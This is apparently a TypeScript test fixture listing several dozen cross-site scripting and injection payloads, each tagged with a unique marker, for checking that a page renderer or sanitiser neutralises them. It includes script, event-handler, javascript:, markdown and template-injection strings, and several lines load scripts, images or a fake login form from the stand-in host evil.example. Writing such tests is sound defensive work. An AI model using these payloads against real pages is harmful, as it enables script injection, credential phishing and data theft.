const RUN = "window.__pwned=1";
/** Nobody is there; a page that requests it was tricked. */
const AWAY = "//evil.example";

/**
 * Texts with which people have smuggled scripts and requests into pages. Each is one line, and ends in a unique word.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt src=${AWAY}/x.js></ScRiPt>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror='${RUN}'>`,
  `<img src=${AWAY}/a.png>`,
  `<img srcset="${AWAY}/b.png 2x">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x/>#x">`,
  `<math><mtext></table></math><img src onerror=${RUN}>`,
  `<math href="javascript:${RUN}">click</math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>">`,
  `<object data=${AWAY}/o></object><embed src=${AWAY}/e>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<base href=${AWAY}/>`,
  `<link rel=stylesheet href=${AWAY}/s.css>`,
  `<style>*{background:url(${AWAY}/c)}</style>`,
  `<div style="background:url(${AWAY}/d)">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form action=${AWAY}><button>Log in again</button></form>`,
  `<details open ontoggle=${RUN}>`,
  `<video autoplay><source onerror=${RUN}></video>`,
  `<a href="javascript:${RUN}">link</a>`,
  `[link](javascript:${RUN})`,
  `[link](java\u200bscript:${RUN})`,
  `[link](  JaVaScRiPt:${RUN} "title")`,
  `[link](data:text/html,<script>${RUN}</script>)`,
  `[link](vbscript:msgbox) [link](file:///etc/passwd)`,
  `![image](${AWAY}/i.png)`,
  `![x](x"onerror="${RUN})`,
  `<javascript:${RUN}> <${AWAY}>`,
  `[a]: javascript:${RUN} "x" [a]`,
  `\`\`\`<img src=x onerror=${RUN}>\`\`\``,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#x3c;img src=x onerror=${RUN}&#62;`,
  `]]><script>${RUN}</script><![CDATA[ <!-- --!> -->`,
  `{"x":"</script><script>${RUN}</script>"} \${${RUN}} {{constructor.constructor('${RUN}')()}}`,
  `\u202e\u2066gnp.exe\u2069\u202c \ufeff\u0000`.replace("\u0000", "\ufffd"),
  `\u001b[2J\u001b]0;title\u0007 a\u200bb \u2028c\u0085d`,
  `__proto__ constructor [object Object] null undefined NaN`,
].map((text, nth) => `${text} mark${String(nth).padStart(2, "0")}`);

export function markOf(text: string): string {
  return text.slice(-6);
}
